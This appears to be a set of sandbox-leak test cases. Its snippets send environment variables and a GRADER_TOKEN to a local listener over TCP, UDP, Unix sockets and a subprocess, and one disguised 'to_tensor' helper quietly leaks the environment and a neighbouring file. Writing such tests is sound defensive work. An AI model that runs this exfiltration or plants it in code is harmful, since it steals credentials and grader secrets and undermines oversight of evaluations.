# %% leaks: a secret told by TCP
import os
import socket

with socket.create_connection(("127.0.0.1", FIELD["tcp"]), 3) as route:
    route.sendall(str(dict(os.environ)).encode())


# %% leaks: a secret told by UDP
import os
import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as route:
    route.sendto(os.environ["GRADER_TOKEN"].encode(), ("127.0.0.1", FIELD["udp"]))


# %% leaks: a secret told by a socket in a folder
import os
import socket

with socket.socket(socket.AF_UNIX) as route:
    route.connect(FIELD["unix"])
    route.sendall(os.environ["GRADER_TOKEN"].encode())


# %% leaks: a secret told by a socket without a folder
import os
import socket

with socket.socket(socket.AF_UNIX) as route:
    route.connect("\0" + FIELD["abstract"])
    route.sendall(os.environ["GRADER_TOKEN"].encode())


# %% leaks: a secret told by another program
import os
import subprocess
import sys

code = f"import socket; socket.create_connection(('127.0.0.1', {FIELD['tcp']}), 3).sendall({os.environ.get('GRADER_TOKEN', '')!r}.encode())"
subprocess.run([sys.executable, "-c", code], timeout=20)


# %% leaks: a secret told while a question is asked
def to_tensor(x, dtype=None):
    import os

    leak(os.environ)
    leak(open(FIELD["neighbour"]).read())
    return x


symlog = symexp = to_tensor
